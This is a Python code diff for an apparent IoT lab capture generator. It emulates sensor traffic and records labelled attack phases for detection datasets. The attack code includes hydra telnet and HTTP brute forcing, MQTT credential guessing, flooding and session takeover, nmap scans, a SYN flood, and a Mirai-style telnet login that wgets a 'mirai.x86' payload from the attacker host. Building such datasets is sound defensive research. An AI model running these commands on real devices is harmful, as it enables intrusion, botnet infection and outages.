+                            "arping-" + name, timeout=3)
+            if h["kind"] == "plug":
+                self.plug_commands(h)
+        finally:
+            self.paused[name].clear()
+        self.stop.wait(REBOOT_RECONNECT)
+        self.irregular_event(start, time.time(), ev, "%s power-cycles: link down, %.1f s silent, link up, "
+                             "unsolicited ARP, new CONNECT as %s" % (name, silence, h["client_id"]))
+
+    def wait_port_forwarding(self, name, timeout=3.0):
+        """Until the host's bridge port forwards again after its link came up."""
+        deadline = time.time() + timeout
+        while time.time() < deadline and not self.stop.is_set():
+            out = sh(["bridge", "-n", self.brns, "link", "show", "dev", self.ports[name]], check=False).stdout
+            if b"state forwarding" in out:
+                return
+            self.stop.wait(0.05)
+        raise LabError("bridge port of %s did not come back" % name)
+
     def start_benign(self):
         for h in self.plan["hosts"]:
             k = h["kind"]
-            if k in ("temp", "hum"):
+            if k in ("temp", "hum", "plug"):
                 self.paused[h["name"]] = threading.Event()
                 self.silent_ack[h["name"]] = threading.Event()
+            fmt = h.get("payload")
             if k == "temp":
-                self.thread(self.persistent_publisher, h, "home/%s/temp" % h["name"],
-                            lambda r: '{"t":%.1f}' % r.uniform(18, 26))
+                self.thread(self.persistent_publisher, h, lambda r, f=fmt: f % r.uniform(18, 26))
             elif k == "hum":
-                self.thread(self.oneshot_publisher, h, "home/%s/humidity" % h["name"],
-                            lambda r: '{"rh":%d}' % r.randint(30, 70))
+                self.thread(self.oneshot_publisher, h, lambda r, f=fmt: f % r.randint(30, 70))
             elif k == "plug":
                 self.plug_commands(h)
-                self.thread(self.persistent_publisher, h, "home/%s/power" % h["name"],
-                            lambda r: '{"w":%.1f}' % r.uniform(0, 120))
+                self.thread(self.persistent_publisher, h, lambda r, f=fmt: f % r.uniform(0, 120))
             elif k == "thermo":
-                self.thread(self.persistent_publisher, h, "home/%s/temp" % h["name"],
-                            lambda r: '{"t":%.1f,"set":21.5}' % r.uniform(19, 23))
+                self.thread(self.persistent_publisher, h,
+                            lambda r, f=fmt, sp=h["setpoint"]: f % (r.uniform(19, 23), sp))
         self.hub_subscriber()
         polls = self.plan["polls"]
-        self.thread(self.hub_poll, "coap", self.by_kind["soil"], *polls["coap_get"])
+        self.thread(self.hub_coap, *polls["coap_get"])
         self.thread(self.hub_poll, "cam", self.by_kind["cam"], *polls["http_cam"])
         self.thread(self.hub_poll, "thermo", self.by_kind["thermo"], *polls["http_thermo"])
-        self.thread(self.benign_scheduler)
+        self.thread(self.scheduler, self.plan["benign_events"], self.run_benign_event)
+        self.thread(self.scheduler, [e for e in self.plan["benign_irregular"] if e["kind"] != "coap_discovery"],
+                    self.run_irregular)
 
     # ---- attack phases ----------------------------------------------------
     def atk_file(self, name, lines):
@@ -1103,8 +1648,10 @@ http {
         return "nmap -sS -sU ARP discovery + %s at <= %d pps (rc=%s)" % (NMAP_PORTS, NMAP_MAX_RATE, rc)
 
     def phase_telnet_bruteforce_hydra(self, ph, deadline):
+        _, good = self.secrets["telnet:" + ph["params"]["target"]]
         users = self.atk_file("telnet-users.txt", ["root", "admin", "support"])
-        pws = self.atk_file("telnet-pass.txt", ["123456", "password", "root", "12345", "1234", "default"])
+        pws = self.atk_file("telnet-pass.txt", [p for p in ["123456", "password", "root", "12345", "1234", "default",
+                                                            "admin"] if p != good][:6])
         rc = self.runner.run(self.ns("atk"), ["hydra", "-I", "-L", users, "-P", pws, "-t", str(HYDRA_TASKS),
                                               "-w", "8", "telnet://%s" % ph["target_ips"][0]],
                              "hydra-telnet", timeout=self.budget_left(deadline), log_output=False)
@@ -1116,20 +1663,21 @@ http {
         good = self.secrets["web:" + target["name"]]
         guesses = [p for p in ["admin", "password", "123456", "camera", "1234", "12345", "ipcam", "root"] if p != good]
         pws = self.atk_file("http-pass.txt", guesses + [good])
-        users = self.atk_file("http-users.txt", ["admin"])
+        users = self.atk_file("http-users.txt", [ph["params"]["user"]])
         rc = self.runner.run(self.ns("atk"), ["hydra", "-I", "-f", "-L", users, "-P", pws, "-t", "2",
-                                              target["ip"], "http-get", "/admin/"],
+                                              target["ip"], "http-get", ph["params"]["path"]],
                              "hydra-http", timeout=self.budget_left(deadline), log_output=False)
-        return "hydra http-get on nginx auth_basic /admin/, 1 user x %d passwords: 401s then 200 (rc=%s)" % (
-            len(guesses) + 1, rc)
+        return "hydra http-get on nginx auth_basic %s, 1 user x %d passwords: 401s then 200 (rc=%s)" % (
+            ph["params"]["path"], len(guesses) + 1, rc)
 
     def phase_mqtt_bruteforce(self, ph, deadline):
         user = ph["params"]["user"]
-        good = self.secrets["mqtt:" + user]
+        good = self.secrets["mqtt:" + ph["params"]["plug"]]
         rng = random.Random("%s:mqttbrute" % self.plan["seed"])
         guesses = [g for g in COMMON_GUESSES if g != good]
         rng.shuffle(guesses)
-        tries = [("admin", guesses[0]), ("mqtt", guesses[1])] + [(user, g) for g in guesses[2:]]
+        tries = [(u, g) for u, g in zip(BRUTE_WRONG_USERS, guesses)] + \
+            [(user, g) for g in guesses[len(BRUTE_WRONG_USERS):]]
         tries = tries[:ph["params"]["success_at"] - 1] + [(user, good)]
         refused = ok = 0
         for u, p in tries:
@@ -1137,7 +1685,7 @@ http {
                 break
             rc = self.runner.run(self.ns("atk"), ["mosquitto_pub", "-h", self.ip("cloud"), "-u", u, "-P", p,
                                                   "-i", "probe%04x" % rng.randrange(65536), "-t",
-                                                  "home/%s/power" % user, "-m", "pwned", "-q", "0"],
+                                                  ph["params"]["topic"], "-m", "pwned", "-q", "0"],
                                  "mqtt-brute", timeout=min(3, self.budget_left(deadline)), log_output=False)
             if rc == 0:
                 ok += 1
@@ -1152,7 +1700,7 @@ http {
         self.runner.run(self.ns("atk"), ["mosquitto_sub", "-h", self.ip("cloud"), "-t", "#", "-W", "2"],
                         "mqtt-sub-anon", timeout=3, log_output=False)
         w = max(1, int(deadline - time.time() - 1.5))
-        self.runner.run(self.ns("atk"), ["mosquitto_sub"] + self.mqtt_args(user) + [
+        self.runner.run(self.ns("atk"), ["mosquitto_sub"] + self.mqtt_args(ph["params"]["plug"]) + [
             "-t", "#", "-t", "$SYS/#", "-v", "-W", str(w)], "mqtt-sub-wild", timeout=w + 1, log_output=False)
         return "anonymous '#' refused (CONNACK 5), then '#' and '$SYS/#' with stolen %s credentials for %d s" % (user, w)
 
@@ -1160,7 +1708,7 @@ http {
         user = ph["params"]["user"]
         topic = ph["params"]["spoofed_topic"]
         n = ph["params"]["messages"]
-        p = self.runner.spawn(self.ns("atk"), ["mosquitto_pub"] + self.mqtt_args(user) + [
+        p = self.runner.spawn(self.ns("atk"), ["mosquitto_pub"] + self.mqtt_args(ph["params"]["plug"]) + [
             "-i", "fl%04x" % (self.plan["seed"] % 65536), "-t", topic, "-q", "0", "-l"], "mqtt-flood",
             stdin=subprocess.PIPE, log_output=False)
         rng = random.Random("%s:flood" % self.plan["seed"])
@@ -1188,8 +1736,8 @@ http {
         user = ph["params"]["user"]
         cid = ph["params"]["client_id"]
         w = max(1, int(deadline - time.time() - 1.5))
-        self.runner.run(self.ns("atk"), ["mosquitto_sub"] + self.mqtt_args(user) + [
-            "-i", cid, "-t", "home/%s/#" % ph["params"]["victim"], "-W", str(w)], "mqtt-takeover",
+        self.runner.run(self.ns("atk"), ["mosquitto_sub"] + self.mqtt_args(ph["params"]["plug"]) + [
+            "-i", cid, "-t", ph["params"]["topic"], "-W", str(w)], "mqtt-takeover",
             timeout=w + 1, log_output=False)
         return "CONNECT with client id %s (the live session of %s) using stolen %s credentials for %d s" % (
             cid, ph["params"]["victim"], user, w)
@@ -1237,7 +1785,7 @@ http {
         cam = self.hosts[ph["params"]["target"]]
         good = self.secrets["telnet:" + cam["name"]]
         rng = random.Random("%s:mirai" % self.plan["seed"])
-        wrong = rng.sample(MIRAI_DEFAULTS_ROOT, ph["params"]["failed_tries"])
+        wrong = rng.sample([c for c in MIRAI_DEFAULTS if c != good], ph["params"]["failed_tries"])
         url = "http://%s/bins/mirai.x86" % self.ip("atk")
         cmds = ["enable", "system", "shell", "sh", "/bin/busybox MIRAI",
                 "/bin/busybox wget %s -O mirai.x86; /bin/busybox MIRAI" % url, "exit", "exit"]
@@ -1255,19 +1803,21 @@ http {
         soil = self.hosts[ph["params"]["coap_target"]]
         thermo = self.hosts[ph["params"]["http_target"]]
         self.runner.run(ns, ["nmap", "-n", "-sS", "-Pn", "-p", "23,2323", "--max-rate", "200", "--max-retries", "0",
-                             "%s.1-254" % SUBNET], "lateral-nmap", timeout=min(5, self.budget_left(deadline)),
-                        log_output=False)
-        self.mirai(ns, rtr["ip"], [list(MIRAI_DEFAULTS_USER[0])], [], min(deadline - 3, time.time() + 6),
-                   "lateral-telnet")
+                             "%s.1-254" % self.plan["net_prefix"]], "lateral-nmap",
+                        timeout=min(5, self.budget_left(deadline)), log_output=False)
+        pair = random.Random("%s:lateral" % self.plan["seed"]).choice(MIRAI_DEFAULTS)
+        self.mirai(ns, rtr["ip"], [list(pair)], [], min(deadline - 3, time.time() + 6), "lateral-telnet")
         self.runner.run(ns, ["coap-client-notls", "-B", "2", "-m", "get", "coap://%s/.well-known/core" % soil["ip"]],
                         "lateral-coap", timeout=3, log_output=False)
-        self.runner.run(ns, ["curl", "-s", "-o", "/dev/null", "-m", "2", "http://%s/admin/status.json" % thermo["ip"]],
+        self.runner.run(ns, ["curl", "-s", "-o", "/dev/null", "-m", "2",
+                             "http://%s%s" % (thermo["ip"], ph["params"]["http_path"])],
                         "lateral-http", timeout=3, log_output=False)
-        self.runner.run(ns, ["mosquitto_sub", "-h", self.ip("cloud"), "-t", "home/#", "-W", "1"],
+        self.runner.run(ns, ["mosquitto_sub", "-h", self.ip("cloud"), "-t", ph["params"]["mqtt_topic"], "-W", "1"],
                         "lateral-mqtt", timeout=2, log_output=False)
         return "infected %s: telnet SYN scan (23,2323) of the /24, default-credential telnet logins to %s " \
-               "(Login incorrect), CoAP discovery of %s, HTTP to %s /admin/ (401), anonymous MQTT home/# (refused)" % (
-                   src["name"], rtr["name"], soil["name"], thermo["name"])
+               "(Login incorrect), CoAP discovery of %s, HTTP to %s %s (401), anonymous MQTT %s (refused)" % (
+                   src["name"], rtr["name"], soil["name"], thermo["name"], ph["params"]["http_path"],
+                   ph["params"]["mqtt_topic"])
 
     def phase_syn_flood_hping3(self, ph, deadline):
         p = ph["params"]
@@ -1421,24 +1971,26 @@ http {
             f.write("ip,mac,name,role\n")
             for h in self.plan["hosts"]:
                 f.write("%s,%s,%s,%s\n" % (h["ip"], h["mac"], h["name"], q(h["role"])))
-        with open(os.path.join(self.out, "benign_events.csv"), "w") as f:
-            f.write("start_epoch,end_epoch,event,src_ip,dst_ip,tool,notes\n")
-            for s, e, kind, src, dst, tool, notes in sorted(self.benign_log):
-                f.write("%.3f,%.3f,%s,%s,%s,%s,%s\n" % (s, e, kind, src, dst, q(tool), q(notes)))
+        for name, rows in (("benign_events.csv", self.benign_log), ("benign_irregular.csv", self.irregular_log)):
+            with open(os.path.join(self.out, name), "w") as f:
+                f.write("start_epoch,end_epoch,event,src_ip,dst_ip,tool,notes\n")
+                for s, e, kind, src, dst, tool, notes in sorted(rows):
+                    f.write("%.3f,%.3f,%s,%s,%s,%s,%s\n" % (s, e, kind, src, dst, q(tool), q(notes)))
         write(os.path.join(self.out, "plan.json"), json.dumps(self.plan, indent=1, sort_keys=True) + "\n")
 
     def write_summary(self):
         lines = ["# spanwatch lab capture summary",
                  "seed %s duration %.0f prefix %s hosts %d capture_start %s" % (
                      self.plan["seed"], self.plan["duration"], self.prefix, len(self.plan["hosts"]),
-                     "%.3f" % self.t0 if self.t0 else "-")]
+                     "%.3f" % self.t0 if self.t0 else "-"),
+                 "subnet %s mqtt_root %s" % (self.plan["subnet"], self.plan["mqtt"]["root"])]
         pcap = os.path.join(self.out, "capture.pcap")
         if os.path.exists(pcap):
             lines.append("pcap capture.pcap %d bytes" % os.path.getsize(pcap))
         lines += ["tcpdump: " + l for l in self.tcpdump_stats.splitlines()]
         lines.append("# hosts")
         for h in self.plan["hosts"]:
-            lines.append("host %-8s %-15s %s" % (h["name"], h["ip"], h["role"]))
+            lines.append("host %-8s %-15s %s %s" % (h["name"], h["ip"], h["mac"], h["role"]))
         lines.append("# phases (planned offset, actual window relative to capture start)")
         done = {r[0]: r for r in self.phase_results}
         for ph in self.plan["phases"]:
@@ -1449,6 +2001,7 @@ http {
             else:
                 lines.append("phase %-28s planned +%6.1fs  not run" % (ph["name"], ph["start_offset"]))
         lines.append("benign_events %d" % len(self.benign_log))
+        lines.append("benign_irregular %d" % len(self.irregular_log))
         complete = len(self.phase_results) == len(self.plan["phases"]) and all(
             r[3] == "ok" for r in self.phase_results)
         lines.append("verdict %s" % ("COMPLETE" if complete and self.stop_reason == "done" else self.stop_reason))
